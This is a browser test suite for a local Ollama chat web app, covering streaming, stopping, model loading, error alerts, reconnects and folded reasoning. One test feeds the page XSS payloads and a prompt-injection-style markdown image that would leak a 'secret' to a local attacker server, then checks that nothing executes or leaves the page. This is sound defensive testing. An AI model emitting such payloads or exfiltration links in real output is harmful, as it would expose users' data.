/**
 * The chat page in a real browser (Debian's Chromium through playwright-core) against the real
 * app and a fake Ollama. The page is driven by role, accessible name and visible text, plus the
 * data attributes the island documents (`data-hydrated`, `data-status`, `data-role`).
 *
 * Browser tests turn Deno's op and resource sanitizers off: playwright-core keeps a pipe to
 * Chromium and timers of its own whose bookkeeping does not line up with one test's.
 */
import type { Locator, Page } from "playwright-core";
import { FakeOllama, type RecordedRequest } from "./fake_ollama.ts";
import { assert, assertEquals, assertMatch } from "./helpers/assert.ts";
import { startTestApp, type TestApp } from "./helpers/app.ts";
import { type BrowserSession, withBrowser } from "./helpers/browser.ts";
import { type Fixture, withApp } from "./helpers/fixture.ts";
import { unusedPort } from "./helpers/ports.ts";
import { INERT, inertReport } from "./helpers/inert.ts";

type Env = Record<string, string>;
type BrowserFixture = Fixture & BrowserSession;

/** A browser test on a fresh fake Ollama + app + Chromium profile. */
function browserTest(name: string, env: Env, test: (f: BrowserFixture) => Promise<void>): void {
  Deno.test({
    name: `browser - ${name}`,
    sanitizeResources: false,
    sanitizeOps: false,
    fn: (t) =>
      withApp(
        env,
        (fixture) => withBrowser(t, fixture.app.url, (session) => test({ ...fixture, ...session })),
      ),
  });
}

/** Rejects when `promise` has not settled within `ms`; the timer never outlives it. */
async function within<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const timeout = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: not within ${ms} ms`)), ms);
  });
  try {
    return await Promise.race([promise, timeout]);
  } finally {
    clearTimeout(timer);
  }
}

interface ChatBody {
  model: string;
  messages: { role: string; content: string }[];
}

/** `/api/chat` requests that ask for an answer (not loads), in order. */
function chats(ollama: FakeOllama): (RecordedRequest & { body: ChatBody })[] {
  return ollama.requests.filter((r): r is RecordedRequest & { body: ChatBody } =>
    r.path === "/api/chat" && ((r.body as ChatBody | undefined)?.messages?.length ?? 0) > 0
  );
}

function lastUserContent(r: RecordedRequest): string | undefined {
  return (r.body as ChatBody | undefined)?.messages?.findLast((m) => m.role === "user")?.content;
}

/** The page's landmarks, by role and name. */
function ui(page: Page) {
  const log = page.getByRole("log", { name: "Messages" });
  return {
    log,
    textbox: page.getByRole("textbox", { name: "Message", exact: true }),
    send: page.getByRole("button", { name: "Send", exact: true }),
    stop: page.getByRole("button", { name: "Stop", exact: true }),
    model: page.getByRole("combobox", { name: "Model" }),
    status: page.getByRole("status"),
    users: log.locator('[data-role="user"]'),
    answers: log.locator('[data-role="assistant"]'),
    /** The assistant message once its `data-status` is `status`. */
    answerWith: (status: string) => log.locator(`[data-role="assistant"][data-status="${status}"]`),
  };
}

async function connected(page: Page): Promise<void> {
  await page.getByRole("status").getByText("connected", { exact: true }).waitFor();
}

/** Waits until an `<input>`/`<select>`/`<textarea>` has `value`. */
async function waitForValue(locator: Locator, value: string): Promise<void> {
  const handle = await locator.elementHandle();
  if (!handle) throw new Error("no element");
  try {
    await locator.page().waitForFunction(
      ({ el, value }) => (el as HTMLSelectElement).value === value,
      { el: handle, value },
    );
  } finally {
    await handle.dispose();
  }
}

function assertQuietPage(log: BrowserSession["log"], allowConsole: RegExp[] = []): void {
  assertEquals(log.pageErrors, [], "no uncaught errors in the page");
  assertEquals(log.dialogs, [], "no dialogs");
  const unexpected = log.consoleErrors.filter((e) => !allowConsole.some((re) => re.test(e)));
  assertEquals(unexpected, [], "no console errors");
  assertEquals(log.foreignRequests, [], "no request left the app's origin");
}

// ---------------------------------------------------------------------------------------------

browserTest(
  "send with Enter streams the answer; Shift+Enter adds a line",
  {},
  async ({ page, open, ollama, log }) => {
    ollama.reply = () => ["Alpha ", "beta ", "gamma."];
    ollama.manual = true;
    await open();
    const { log: messages, textbox, stop, users, answers, answerWith } = ui(page);
    await connected(page);

    await textbox.fill("Hello there");
    await textbox.press("Enter");
    await users.getByText("Hello there", { exact: true }).waitFor();
    assertEquals(await textbox.inputValue(), "", "the input is cleared after sending");
    const typing = answers.getByRole("img", { name: "Assistant is typing" });
    await typing.waitFor();
    await stop.waitFor();

    // Held before the first token: the indicator stays up.
    await ollama.waitForHeld(1);
    await typing.waitFor();
    assertEquals(await answers.getByText(/Alpha/).count(), 0);

    ollama.release(1);
    await answerWith("streaming").getByText("Alpha", { exact: true }).waitFor();
    await typing.waitFor({ state: "detached" });
    assertEquals(await messages.getByText(/beta/).count(), 0, "later tokens are still held");
    assert(await stop.isVisible(), "Stop shows while streaming");

    ollama.release(Infinity);
    const done = answerWith("done");
    await done.getByText("Alpha beta gamma.", { exact: true }).waitFor();
    const stats = done.getByText(/tok\/s/);
    await stats.waitFor();
    assertMatch(await stats.innerText(), /\d+(\.\d+)? tok\/s · 3 tokens/);
    await ui(page).send.waitFor();

    // Shift+Enter: a new line in the box, nothing sent.
    await textbox.fill("line one");
    await textbox.press("Shift+Enter");
    await textbox.pressSequentially("line two");
    assertEquals(await textbox.inputValue(), "line one\nline two");
    assertEquals(chats(ollama).length, 1, "Shift+Enter sent nothing to Ollama");
    assertEquals(await users.count(), 1, "Shift+Enter added no message");

    // Enter then sends both lines as one prompt, which also proves nothing went out before.
    await textbox.press("Enter");
    const second = await ollama.waitForRequest((r) => lastUserContent(r) === "line one\nline two");
    assertEquals(chats(ollama).findIndex((r) => r === second), 1, "it is the second chat");
    await answerWith("done").nth(1).waitFor();
    assertQuietPage(log);
  },
);

browserTest(
  "the Send button sends, and the next prompt carries the conversation",
  {},
  async ({ page, open, ollama, log }) => {
    await open();
    const { textbox, send, users, answerWith } = ui(page);
    await connected(page);

    await textbox.fill("First question");
    await send.click();
    await users.getByText("First question", { exact: true }).waitFor();
    const firstAnswer = 'You said: "First question". This is a fake answer.';
    await answerWith("done").getByText(firstAnswer, { exact: true }).waitFor();

    await textbox.fill("Second question");
    await send.click();
    const request = await ollama.waitForRequest((r) => lastUserContent(r) === "Second question");
    const turns = (request.body as ChatBody).messages.filter((m) => m.role !== "system");
    assertEquals(turns, [
      { role: "user", content: "First question" },
      { role: "assistant", content: firstAnswer },
      { role: "user", content: "Second question" },
    ]);
    await answerWith("done").nth(1).getByText('You said: "Second question".', { exact: false })
      .waitFor();
    assertEquals(await users.count(), 2);
    assertQuietPage(log);
  },
);

browserTest(
  "Stop keeps the partial answer, marks it stopped and aborts Ollama's request",
  {},
  async ({ page, open, ollama, log }) => {
    ollama.reply = () => ["One ", "two ", "three ", "four."];
    ollama.manual = true;
    await open();
    const { textbox, send, stop, answers, answerWith } = ui(page);
    await connected(page);

    await textbox.fill("Count for me");
    await textbox.press("Enter");
    await ollama.waitForHeld(1);
    const request = chats(ollama)[0]!;
    ollama.release(2);
    await answers.getByText("One two", { exact: true }).waitFor();
    await ollama.waitForHeld(1); // the third token is held: the answer is mid-stream

    await stop.click();
    await request.waitAborted();
    assert(request.aborted && !request.finished);
    const stopped = answerWith("stopped");
    await stopped.getByText("stopped", { exact: true }).waitFor();
    await stopped.getByText("One two", { exact: true }).waitFor();
    await send.waitFor();
    assertEquals(await stop.count(), 0, "Stop is gone");
    assertEquals(await answers.getByText(/three/).count(), 0, "nothing after the stop shows");
    assertQuietPage(log);
  },
);

browserTest(
  "switching model loads it, sticks across a reload and answers the next prompt",
  {},
  async ({ page, open, reload, ollama, log }) => {
    ollama.loaded.add("llama3.2:latest");
    await open();
    const { model, textbox, answerWith } = ui(page);
    await connected(page);
    const options = model.getByRole("option");
    await options.getByText("qwen3:0.6b", { exact: false }).waitFor({ state: "attached" });
    assertEquals(await options.allInnerTexts(), [
      "llama3.2:latest — 3.2B Q4_K_M ● loaded",
      "qwen3:0.6b — 751.63M Q4_K_M",
    ]);
    await waitForValue(model, "llama3.2:latest");

    // Hold the load request in the browser so "Loading" can be seen without racing it.
    let letLoadGo!: () => void;
    const loadHeld = new Promise<void>((resolve) => (letLoadGo = resolve));
    let loadSeen!: () => void;
    const loadRequested = new Promise<void>((resolve) => (loadSeen = resolve));
    await page.route("**/api/models/load", async (route) => {
      loadSeen();
      await loadHeld;
      await route.continue();
    });
    await model.selectOption({ label: "qwen3:0.6b — 751.63M Q4_K_M" });
    await within(loadRequested, 5000, "the page asked to load the model");
    await page.getByRole("progressbar", { name: "Loading" }).waitFor();
    await page.getByText("Loading qwen3:0.6b…").waitFor();
    letLoadGo();
    await page.getByText("qwen3:0.6b loaded", { exact: true }).waitFor();
    await page.getByRole("progressbar", { name: "Loading" }).waitFor({ state: "detached" });
    const load = await ollama.waitForRequest((r) =>
      r.path === "/api/chat" && (r.body as ChatBody).model === "qwen3:0.6b" &&
      ((r.body as ChatBody).messages ?? []).length === 0
    );
    assert(load.finished, "the load finished");
    assert(ollama.loaded.has("qwen3:0.6b"));
    await options.getByText("qwen3:0.6b — 751.63M Q4_K_M ● loaded", { exact: true })
      .waitFor({ state: "attached" });
    await page.unroute("**/api/models/load");

    await reload();
    await connected(page);
    await options.getByText("qwen3:0.6b — 751.63M Q4_K_M ● loaded", { exact: true })
      .waitFor({ state: "attached" });
    await waitForValue(model, "qwen3:0.6b");

    await textbox.fill("Which model?");
    await textbox.press("Enter");
    const chat = await ollama.waitForRequest((r) => lastUserContent(r) === "Which model?");
    assertEquals((chat.body as ChatBody).model, "qwen3:0.6b");
    await answerWith("done").getByText('You said: "Which model?".', { exact: false }).waitFor();
    assertQuietPage(log);
  },
);

browserTest(
  "a missing default model gives an alert with `ollama pull`, and the page keeps working",
  { OLLAMA_MODEL: "missing-model:7b" },
  async ({ page, open, ollama, log }) => {
    await open();
    const { model, textbox, answers, answerWith } = ui(page);
    await connected(page);
    // Once the list has arrived (options and selection render in the same pass), the configured
    // model must still be the one selected: README says OLLAMA_MODEL is "the model selected
    // until a person picks another", and pickModel's own doc says "else the default".
    await model.getByRole("option").getByText("qwen3:0.6b — 751.63M Q4_K_M", { exact: true })
      .waitFor({ state: "attached" });
    assertEquals(
      await model.inputValue(),
      "missing-model:7b",
      "BUG (lib/client/state.ts pickModel): when OLLAMA_MODEL is not installed the island " +
        "silently selects the first installed model instead, so the person never learns that " +
        "the configured model is missing (and the `ollama pull` explanation never shows)",
    );

    await textbox.fill("Hello?");
    await textbox.press("Enter");
    const alert = answers.getByRole("alert");
    await alert.waitFor();
    const text = await alert.innerText();
    assertMatch(text, /missing-model:7b.*not installed/);
    assertMatch(text, /ollama pull missing-model:7b/);
    await answerWith("error").getByRole("button", { name: "Retry" }).waitFor();

    await model.selectOption({ label: "qwen3:0.6b — 751.63M Q4_K_M" });
    await page.getByText("qwen3:0.6b loaded", { exact: true }).waitFor();
    await textbox.fill("Now with a real model");
    await textbox.press("Enter");
    await answerWith("done").getByText('You said: "Now with a real model".', { exact: false })
      .waitFor();
    const chat = await ollama.waitForRequest((r) => lastUserContent(r) === "Now with a real model");
    assertEquals((chat.body as ChatBody).model, "qwen3:0.6b");
    assertQuietPage(log);
  },
);

browserTest(
  "a model removed from Ollama after the page listed it: alert with `ollama pull`, then Retry",
  {},
  async ({ page, open, ollama, log }) => {
    await open();
    const { model, textbox, answers, answerWith } = ui(page);
    await connected(page);
    await model.getByRole("option").getByText("qwen3:0.6b — 751.63M Q4_K_M", { exact: true })
      .waitFor({ state: "attached" });
    await waitForValue(model, "llama3.2:latest");
    const removed = await fetch(`${ollama.url}/api/delete`, {
      method: "DELETE",
      body: JSON.stringify({ model: "llama3.2:latest" }),
    });
    assertEquals(removed.status, 200);
    await removed.body?.cancel();

    await textbox.fill("Hello?");
    await textbox.press("Enter");
    const failed = answerWith("error");
    const alert = failed.getByRole("alert");
    await alert.waitFor();
    const text = await alert.innerText();
    assertMatch(text, /llama3\.2:latest.*not installed/);
    assertMatch(text, /ollama pull llama3\.2:latest/);
    const retry = failed.getByRole("button", { name: "Retry" });
    await retry.waitFor();

    // The page keeps working: pick an installed model and Retry the same prompt.
    await model.selectOption({ label: "qwen3:0.6b — 751.63M Q4_K_M" });
    await page.getByText("qwen3:0.6b loaded", { exact: true }).waitFor();
    await retry.click();
    await answerWith("done").getByText('You said: "Hello?".', { exact: false }).waitFor();
    assertEquals(await answers.getByRole("alert").count(), 0, "the error is gone after Retry");
    const chat = chats(ollama).at(-1)!;
    assertEquals([chat.body.model, lastUserContent(chat)], ["qwen3:0.6b", "Hello?"]);
    assertQuietPage(log);
  },
);

browserTest(
  "Ollama unreachable at page load: the model area says so",
  {
    // A getter: the port is taken when the test starts, not when the file loads, so no other
    // test's server can have been given it in between.
    get OLLAMA_HOST() {
      return `127.0.0.1:${unusedPort()}`;
    },
  },
  async ({ page, open, log }) => {
    await open();
    const { model, textbox, answers } = ui(page);
    await connected(page);
    const note = page.getByText(/Ollama is not reachable/);
    await note.waitFor();
    // The explanation is the select's description (aria-describedby), i.e. the model area.
    const description = await model.evaluate((select) =>
      document.getElementById(select.getAttribute("aria-describedby") ?? "")?.textContent ?? ""
    );
    assertMatch(description, /Ollama is not reachable at http:\/\/127\.0\.0\.1:\d+/);
    assertMatch(description, /ollama serve/);

    // A prompt now fails with an explanation too, not silently.
    await textbox.fill("Anyone there?");
    await textbox.press("Enter");
    const alert = answers.getByRole("alert");
    await alert.waitFor();
    assertMatch(await alert.innerText(), /Ollama is not reachable/);
    // The failed model list is a 503 that Chromium reports on the console.
    assertQuietPage(log, [/Failed to load resource: .* 503/]);
  },
);

Deno.test({
  name: "browser - after a server restart the page reconnects and chats again",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    const ollama = await FakeOllama.start();
    let app: TestApp | undefined = await startTestApp({ OLLAMA_HOST: ollama.url });
    const port = app.port;
    try {
      await withBrowser(t, app.url, async ({ page, open, log }) => {
        await open();
        const { status, textbox, answerWith } = ui(page);
        await connected(page);

        await app!.shutdown();
        app = undefined;
        await status.getByText(/^reconnecting/).waitFor();
        assertEquals(await status.getAttribute("data-status"), "reconnecting");

        app = await startTestApp({ OLLAMA_HOST: ollama.url, PORT: String(port) });
        await status.getByText("connected", { exact: true }).waitFor({ timeout: 10_000 });

        await textbox.fill("Still there?");
        await textbox.press("Enter");
        await answerWith("done").getByText('You said: "Still there?".', { exact: false })
          .waitFor();
        // Formatted, even when the renderer's chunk, fetched at idle, came due while the server
        // was down: the page tries it again.
        await answerWith("done").locator("p:not(.md-plain)").waitFor();
        // Chromium logs each refused reconnect attempt, and that failed fetch if there was one.
        assertQuietPage(log, [
          /WebSocket connection to .* failed/,
          /^Failed to load resource: net::ERR_CONNECTION_REFUSED$/,
        ]);
      });
    } finally {
      await app?.shutdown();
      await ollama.close();
    }
  },
});

browserTest(
  "a stream that breaks mid-answer keeps the partial text and explains",
  {},
  async ({ page, open, ollama, log }) => {
    ollama.reply = () => ["Partial ", "answer ", "here ", "and ", "more."];
    ollama.dieAfterChunks = 3;
    await open();
    const { textbox, answerWith } = ui(page);
    await connected(page);

    await textbox.fill("Break please");
    await textbox.press("Enter");
    const failed = answerWith("error");
    const alert = failed.getByRole("alert");
    await alert.waitFor();
    assertMatch(await alert.innerText(), /broke off.*partial answer is kept/i);
    await failed.getByText("Partial answer here", { exact: true }).waitFor();
    assertEquals(await failed.getByText(/more/).count(), 0);
    await failed.getByRole("button", { name: "Retry" }).waitFor();
    await ui(page).send.waitFor();
    assertQuietPage(log);
  },
);

browserTest(
  "hostile Markdown in an answer is rendered inert; normal Markdown renders",
  {},
  async ({ page, open, ollama, log }) => {
    const hits: string[] = [];
    const attacker = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen: () => {} },
      (req) => {
        hits.push(req.url);
        return new Response("gotcha", { headers: { "access-control-allow-origin": "*" } });
      },
    );
    const evil = `http://127.0.0.1:${attacker.addr.port}`;
    try {
      const answer = [
        "# Release notes\n\n",
        "- first item\n- second item\n\n",
        "| Name | Value |\n| ---- | ----- |\n| a | 1 |\n| b | 2 |\n\n",
        "```js\nconst answer = 42;\nfunction hi() { return 'hi'; }\n```\n\n",
        "<script>alert(1)</script>\n\n",
        "Inline <img src=x onerror=alert(2)> image.\n\n",
        "[click](javascript:alert(3))\n\n",
        "<svg onload=alert(4)><circle/></svg>\n\n",
        '<iframe src="javascript:alert(5)"></iframe>\n\n',
        'Text <a href="data:text/html,<script>alert(6)</script>">d</a> link.\n\n',
        `<div style="background:url(${evil}/css)">s</div>\n\n`,
        `<form action="${evil}/f"><button>go</button></form>\n\n`,
        '<object data="x"></object>\n\n',
        `See ![x](${evil}/leak?q=secret) for details.\n\n`,
        "The end.",
      ];
      ollama.reply = () => answer;
      const response = await open();
      const csp = response.headers()["content-security-policy"] ?? "";
      for (const part of ["default-src 'self'", "script-src 'self'", "img-src 'self' data:"]) {
        assert(csp.includes(part), `the page's CSP has ${part}: ${csp}`);
      }
      const { log: messages, textbox, answerWith } = ui(page);
      await connected(page);

      await textbox.fill("Summarise https://example.com/notes please");
      await textbox.press("Enter");
      const done = answerWith("done");
      await done.getByText("The end.", { exact: true }).waitFor();

      // Normal Markdown renders.
      await done.getByRole("heading", { name: "Release notes" }).waitFor();
      assertEquals(await done.getByRole("list").getByRole("listitem").allInnerTexts(), [
        "first item",
        "second item",
      ]);
      const table = done.getByRole("table");
      await table.waitFor();
      await table.getByRole("cell", { name: "2" }).waitFor();
      const code = done.locator("code.hljs");
      await code.getByText("const answer = 42;", { exact: false }).waitFor();
      // The grammar arrives in its own chunk; then the keywords get their spans.
      await code.locator("span.hljs-keyword").first().waitFor();

      // The prompt-injected image is a link to click (not clicked here), never an <img>.
      const imageLink = done.getByRole("link", { name: "🖼 image: x" });
      await imageLink.waitFor();
      assertEquals(await imageLink.getAttribute("href"), `${evil}/leak?q=secret`);

      assertEquals(await inertReport(messages), INERT);

      // The raw HTML shows as text instead.
      await done.getByText("<script>alert(1)</script>", { exact: false }).waitFor();

      // Nothing reached the attacker, even now that the image link is on screen.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      assertEquals(hits, [], "the attacker's server got no request");
      assertQuietPage(log);
    } finally {
      await attacker.shutdown();
    }
  },
);

browserTest(
  "a thinking model's reasoning shows folded away, apart from the answer",
  { OLLAMA_MODEL: "qwen3:0.6b" },
  async ({ page, open, ollama, log }) => {
    ollama.thinking = () => ["Let me ", "consider ", "this."];
    ollama.reply = () => ["The ", "answer ", "is 4."];
    ollama.manual = true;
    await open();
    const { textbox, answers, answerWith } = ui(page);
    await connected(page);

    await textbox.fill("What is 2+2?");
    await textbox.press("Enter");
    await ollama.waitForHeld(1);
    ollama.release(2);
    const details = answers.getByRole("group");
    await details.getByText("Thinking", { exact: true }).waitFor();

    ollama.release(Infinity);
    const done = answerWith("done");
    await done.getByText("The answer is 4.", { exact: true }).waitFor();
    const summary = done.getByRole("group").getByText(/^Thought for \d+ s$/);
    await summary.waitFor();
    const folded = done.getByRole("group");
    assertEquals(await folded.evaluate((el) => el.tagName), "DETAILS");
    assertEquals(await folded.evaluate((el) => (el as HTMLDetailsElement).open), false);
    assertEquals(await folded.getByText("The answer is 4.").count(), 0, "the answer is apart");
    const reasoning = folded.getByText("Let me consider this.", { exact: true });
    assertEquals(await reasoning.isVisible(), false, "collapsed");
    await summary.click();
    await reasoning.waitFor();
    assertQuietPage(log);
  },
);
